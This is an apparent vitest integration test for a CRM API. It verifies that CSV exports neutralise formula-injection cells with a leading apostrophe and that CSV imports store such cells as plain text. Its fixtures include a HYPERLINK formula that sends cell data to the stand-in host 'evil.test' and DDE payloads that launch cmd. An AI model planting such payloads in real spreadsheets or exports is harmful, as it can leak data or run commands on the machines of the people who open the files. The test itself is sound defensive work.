/**
 * CSV formula injection, both ways. Records whose names, notes, tags and
 * custom fields begin with = + - @ (and, written straight into the database,
 * TAB and CR) are exported through the API: every such text cell comes out
 * with a leading apostrophe, numbers stay numbers, and no cell of any export
 * can start a formula. Then a CSV holding such cells is imported through the
 * API: every cell is stored as the same text — not evaluated, not refused
 * (cells are trimmed like every imported cell, so a leading TAB or CR goes).
 */
import { parse } from 'csv-parse/sync';
import type { LightMyRequestResponse } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { withSystem } from '../../src/platform/db/system.js';
import { createHarness, createTenant, report, SETUP_TIMEOUT, type Harness, type Tenant } from './lib/harness.js';

/** What a spreadsheet would run as a formula. */
const FORMULAS = ['=1+1', '=HYPERLINK("http://evil.test/?d="&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '=cmd|\' /C notepad\'!A1'];
/** Accepted by the API, which trims: stored without the leading TAB / CR. */
const WHITESPACE_LED = ['\t=2+2', '\r=3+3'];
const TRIGGER = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;

let h: Harness;
let A: Tenant;
let B: Tenant;
const counts = { exportedCells: 0, neutralised: 0, importedCells: 0 };

beforeAll(async () => {
  h = await createHarness();
  A = await createTenant(h, 'csvA', { everyRole: false });
  B = await createTenant(h, 'csvB', { everyRole: false });
  for (const t of [A, B]) {
    const res = await h.request({ method: 'POST', url: '/api/v1/custom-fields', headers: t.owner.headers, payload: { entity: 'contact', key: 'ref', label: t === A ? '=Ref' : 'Ref', type: 'text' } });
    expect(res.statusCode, res.body).toBe(201);
  }
}, SETUP_TIMEOUT);
afterAll(async () => {
  report('csv-formulas', counts);
  await h?.t.close();
});

const post = (t: Tenant, url: string, payload: unknown) => h.request({ method: 'POST', url, headers: t.owner.headers, payload: payload as Record<string, unknown> });

function ok(res: LightMyRequestResponse, status = 201) {
  expect(res.statusCode, res.body).toBe(status);
  return res.json<{ id: string }>();
}

/** The exporter's rule, from the documentation: text starting with = + - @ TAB CR gets a leading apostrophe. */
const neutralised = (v: string) => (TRIGGER.test(v) && !NUMBER.test(v) ? `'${v}` : v);

async function exportCsv(t: Tenant, entity: string): Promise<Array<Record<string, string>>> {
  const res = await h.request({ method: 'GET', url: `/api/v1/exports/${entity}.csv`, headers: t.owner.headers });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.body.startsWith('\uFEFF')).toBe(true);
  const rows = parse<Record<string, string>>(res.body.slice(1), { columns: true });
  // No cell of any export, header included, can start a formula; numbers are left alone.
  const header: string[][] = parse(res.body.slice(1), { to: 1 });
  for (const cell of [...header[0]!, ...rows.flatMap((r) => Object.values(r))]) {
    counts.exportedCells++;
    if (cell.startsWith("'")) counts.neutralised++;
    expect(!TRIGGER.test(cell) || NUMBER.test(cell), `${entity}.csv cell ${JSON.stringify(cell)}`).toBe(true);
  }
  return rows;
}

async function waitForImport(t: Tenant, id: string) {
  for (let i = 0; i < 600; i++) {
    const body = (await h.request({ method: 'GET', url: `/api/v1/imports/${id}`, headers: t.owner.headers })).json<{ status: string; created: number; failed: number; errors: unknown[] }>();
    if (['completed', 'failed'].includes(body.status)) return body;
    await new Promise((r) => setTimeout(r, 50));
  }
  throw new Error(`import ${id} did not finish`);
}

async function importCsv(t: Tenant, csv: string) {
  const imp = ok(await h.request({ method: 'POST', url: '/api/v1/imports?entity=contacts&file_name=formulas.csv', headers: { ...t.owner.headers, 'content-type': 'text/csv' }, payload: csv }));
  ok(await post(t, `/api/v1/imports/${imp.id}/start`, undefined), 202);
  return waitForImport(t, imp.id);
}

async function storedContacts(t: Tenant, emailLike: string) {
  const r = await withSystem(h.t.db, (tx) => tx.query<{ email: string; first_name: string; last_name: string; title: string; notes: string; ref: string }>(
    `SELECT email, first_name, last_name, title, notes, custom->>'ref' AS ref FROM contacts WHERE tenant_id = $1 AND email LIKE $2`, [t.id, emailLike]));
  return new Map(r.rows.map((x) => [x.email, x]));
}

const quote = (v: string) => `"${v.replace(/"/g, '""')}"`;

describe('CSV export neutralises formula cells', () => {
  it('contacts, companies, deals and leads: every text cell starting with = + - @ TAB CR gets an apostrophe; numbers stay', async () => {
    const values = [...FORMULAS, ...WHITESPACE_LED];
    const ids: string[] = [];
    for (const [i, v] of values.entries()) {
      const made = ok(await post(A, '/api/v1/contacts', { first_name: v, last_name: v, title: v, notes: v, email: `f${i}-${A.marker.toLowerCase()}@example.test`, tags: [v], custom: { ref: v } }));
      ids.push(made.id);
      ok(await post(A, '/api/v1/companies', { name: v }));
      ok(await post(A, '/api/v1/deals', { name: v }));
      ok(await post(A, '/api/v1/leads', { title: v }));
    }
    // Numbers in text fields are not formulas: they are exported as they are.
    ok(await post(A, '/api/v1/contacts', { first_name: 'Number', last_name: '-42', title: '-12.50', email: `n-${A.marker.toLowerCase()}@example.test` }));
    // The API trims text, so TAB and CR only lead a stored value written another way (older data, SQL): write one directly.
    const raw = { first_name: '\t=4+4', last_name: '\r=5+5', title: '\t@x', notes: '\r+9', ref: '\t-1+1' };
    await withSystem(h.t.db, (tx) => tx.query(
      `UPDATE contacts SET first_name = $2, last_name = $3, title = $4, notes = $5, custom = jsonb_set(custom, '{ref}', to_jsonb($6::text)) WHERE tenant_id = $1 AND email = $7`,
      [A.id, raw.first_name, raw.last_name, raw.title, raw.notes, raw.ref, `f0-${A.marker.toLowerCase()}@example.test`]));

    const rows = await exportCsv(A, 'contacts');
    expect(Object.keys(rows[0]!)).toContain("'=Ref");
    const byEmail = new Map(rows.map((r) => [r.email, r]));
    const direct = byEmail.get(`f0-${A.marker.toLowerCase()}@example.test`)!;
    expect([direct.first_name, direct.last_name, direct.title, direct.notes, direct["'=Ref"]]).toEqual(["'\t=4+4", "'\r=5+5", "'\t@x", "'\r+9", "'\t-1+1"]);
    for (const [i, v] of values.entries()) {
      if (i === 0) continue;
      const stored = v.trim();
      const row = byEmail.get(`f${i}-${A.marker.toLowerCase()}@example.test`)!;
      for (const col of ['first_name', 'last_name', 'title', 'notes', "'=Ref"]) expect(row[col], `${col} of ${JSON.stringify(v)}`).toBe(neutralised(stored));
      expect(row.id).toBe(ids[i]);
    }
    expect(byEmail.get(`n-${A.marker.toLowerCase()}@example.test`)).toMatchObject({ last_name: '-42', title: '-12.50' });
    for (const entity of ['companies', 'deals', 'leads']) {
      const cells = (await exportCsv(A, entity)).map((r) => r[entity === 'leads' ? 'title' : 'name']!);
      for (const v of values) expect(cells, `${entity}: ${JSON.stringify(v)}`).toContain(neutralised(v.trim()));
    }
  });
});

describe('CSV import stores formula cells as text', () => {
  it('cells starting with = + - @ are stored verbatim (TAB/CR-led cells trimmed), neither evaluated nor refused', async () => {
    const values = [...FORMULAS, ...WHITESPACE_LED];
    const lines = ['Email,First Name,Last Name,Job Title,Notes,Ref'];
    for (const [i, v] of values.entries()) lines.push([`i${i}-${B.marker.toLowerCase()}@example.test`, v, v, v, v, v].map(quote).join(','));
    const done = await importCsv(B, `${lines.join('\r\n')}\r\n`);
    expect(done, JSON.stringify(done.errors)).toMatchObject({ status: 'completed', created: values.length, failed: 0 });
    const stored = await storedContacts(B, `i%-${B.marker.toLowerCase()}@example.test`);
    expect(stored.size).toBe(values.length);
    for (const [i, v] of values.entries()) {
      const expected = v.trim();
      if (!WHITESPACE_LED.includes(v)) expect(expected).toBe(v);
      counts.importedCells += 5;
      expect(stored.get(`i${i}-${B.marker.toLowerCase()}@example.test`), JSON.stringify(v)).toMatchObject({ first_name: expected, last_name: expected, title: expected, notes: expected, ref: expected });
    }
  });

  it('re-importing an export keeps the apostrophe as text: the file is read, never evaluated', async () => {
    const res = await h.request({ method: 'GET', url: '/api/v1/exports/contacts.csv', headers: A.owner.headers });
    const done = await importCsv(B, res.body);
    expect(done).toMatchObject({ status: 'completed', failed: 0 });
    const stored = await storedContacts(B, `f%-${A.marker.toLowerCase()}@example.test`);
    expect(stored.get(`f1-${A.marker.toLowerCase()}@example.test`)).toMatchObject({ first_name: `'${FORMULAS[1]}`, ref: `'${FORMULAS[1]}` });
    expect(stored.get(`f3-${A.marker.toLowerCase()}@example.test`)).toMatchObject({ last_name: "'-2+3", title: "'-2+3" });
    // What the export wrote is what the import keeps, cell for cell.
    const exported = new Map(parse<Record<string, string>>(res.body.slice(1), { columns: true }).map((r) => [r.email, r]));
    for (const [email, row] of stored) {
      const cells = exported.get(email)!;
      expect(row).toMatchObject({ first_name: cells.first_name!.trim(), last_name: cells.last_name!.trim(), title: cells.title!.trim(), ref: cells["'=Ref"]!.trim() });
    }
  });
});
